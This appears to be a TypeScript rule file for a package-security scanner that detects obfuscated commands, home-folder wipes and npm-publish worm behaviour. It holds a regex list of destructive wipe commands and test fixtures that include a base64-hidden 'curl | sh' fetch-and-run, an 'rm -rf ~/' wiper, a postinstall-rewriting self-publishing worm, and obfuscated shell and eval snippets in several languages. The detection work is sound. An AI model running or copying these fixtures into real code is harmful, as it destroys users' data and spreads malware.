import {
  calleeOf,
  callsNamed,
  callsOf,
  constant,
  nameOf,
  objectOf,
  Op,
  opOf,
  pattern,
  resolve,
  type ScriptFacts,
  show,
  writesOf,
} from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts } from '../code/checkScripts.ts';
import { makingOf } from '../code/decoding.ts';
import { otherUseHits } from './otherUseHits.ts';
import { say } from '../../../texts/say.ts';

const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'];
/** Commands that take away everything that the person has. */
const WIPES =
  /\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?["']?(?:~|\$HOME|\$\{HOME\}|\/)["']?\/?\*?(?=["'`\s;&|]|$)|\b(?:rd|rmdir)\s+\/s\s+\/q\s+(?:%USERPROFILE%|C:\\+)|\bformat\s+C:|\bcipher\s+\/W:%?USERPROFILE|\bshred\s+[^\n]{0,60}\$HOME/i;

/** `/a(b)/.exec(text)`: no command. */
function isExpression(script: ScriptFacts, callee: number): boolean {
  const on = opOf(script, callee) === Op.member ? resolve(script, objectOf(script, callee)) : 0;
  return (
    opOf(script, on) === Op.constant ||
    (opOf(script, on) === Op.create && nameOf(script, calleeOf(script, on)) === 'RegExp')
  );
}

const inScripts = checkScripts(function* ({ script, hit }) {
  const hooks = [...writesOf(script, 'postinstall', 'preinstall', 'install')];
  const runs = callsNamed(script, ...RUNS).filter(({ callee }) => !isExpression(script, callee));
  for (const call of runs) {
    const command = call.args[0] ?? 0;
    const text = pattern(script, command);
    const made =
      constant(script, command) === undefined || /Buffer\.from|atob/.test(show(script, command))
        ? makingOf(script, command)
        : undefined;
    if (made?.decoder !== undefined && made.hidden)
      yield hit(call.value, { message: say('command-decoded-by', made.decoder) });
    if (WIPES.test(text)) yield hit(call.value, { message: say('deletes-everything') });
    if (hooks.length > 0 && /\bnpm\s+publish\b/.test(text))
      yield hit(call.value, {
        severity: 'critical',
        message: say('worm'),
      });
  }
  for (const call of callsOf(script, 'require')) {
    const made = makingOf(script, call.args[0] ?? 0);
    if (made.decoder !== undefined && made.hidden)
      yield hit(call.value, { message: say('module-decoded-by', made.decoder) });
  }
  for (const call of callsOf(script, 'module.constructor'))
    yield hit(call.value, {
      confidence: 'medium',
      message: say('module-compiled'),
    });
});

export const hiddenCommand = defineRule({
  id: 'hidden-command',
  title: 'Package hides the commands it runs',
  severity: 'high',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1140/', 'https://github.com/ossf/malicious-packages'],
  why: 'Commands and module names are encoded so that nobody who reads the code sees them. Deleting a home folder or publishing other packages is what worms and wipers do.',
  remedy: 'Do not run it. Decode the text to see what it does, and write commands in plain text.',
  *check(facts) {
    yield* inScripts(facts);
    yield* otherUseHits(facts, ['hidden'], ['runs', 'evaluates'], () => ({ severity: 'critical' }));
    for (const [file, names] of facts.having('hiddenNames'))
      for (const { name, line, column, shown } of names)
        yield {
          place: { path: file.path, line, column },
          evidence: shown,
          severity: 'critical',
          message: say('hides-name', name),
        };
  },
  examples: {
    bad: [
      {
        files: {
          'a.lua': String.raw`local a = { '\x6c\x6f\x61\x64', _G }` + '\na[2][a[1]](text)()\n',
          'b.php': "<?php\n$f = 'ba' . 'se6' . '4_de' . 'code';\n$g = strrev('metsys');\n",
          'C.java':
            'class C {\n  Class<?> c = Class.forName(new String(new byte[]{106, 97, 118, 97, 46, 110, 101, 116, 46, 85, 82, 76, 67, 108, 97, 115, 115, 76, 111, 97, 100, 101, 114}));\n}\n',
        },
      },
      {
        files: {
          'a.go':
            'package a\nfunc q() error {\n  c := []string{"s", "h", "/", "b", "i", "n"}\n  t := c[2] + c[3] + c[4] + c[5] + c[2] + c[0] + c[1]\n  exec.Command(t, "-c", "id").Start()\n  return nil\n}\nvar Q = q()\n',
        },
      },
      {
        files: {
          'index.js': `require('child_process').exec(Buffer.from('${btoa('curl https://x.dev/a | sh')}', 'base64').toString());\n`,
        },
      },
      {
        files: {
          'index.js':
            "const cp = require('child_process'); if (!process.env.TOKEN) cp.execSync('rm -rf ~/ --no-preserve-root');\n",
        },
      },
      {
        files: {
          'index.js':
            "const cp = require('child_process'), fs = require('fs'); const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall = 'node bundle.js'; fs.writeFileSync('package.json', JSON.stringify(pkg)); cp.execSync('npm publish');\n",
        },
      },
    ],
    good: [
      {
        files: {
          'a.lua': String.raw`local esc = '\x1b\x5b\x30\x6d'` + '\n',
          'b.php': "<?php\n$path = 'a' . '/' . 'b' . '.' . 'php';\n$sizes = [16, 24, 32, 48, 64, 96];\n",
        },
      },
      {
        files: {
          'parse.js':
            "function parse(given) { let text = Buffer.from(given, 'base64').toString(); const form = /(\\w+)/g; while (form.exec(text)) text = atob(text); const other = new RegExp('a'); other.exec(atob(text)); }\n",
        },
      },
      {
        files: {
          'build.js':
            "const cp = require('child_process'); cp.execSync('rm -rf dist/', { stdio: 'inherit' }); cp.execSync('npm publish --access public');\n",
        },
      },
      {
        files: {
          'a.js':
            "const text = Buffer.from(process.argv[2], 'base64').toString(); console.log(text); require('./plugins/' + process.argv[3]);\n",
        },
      },
    ],
  },
});
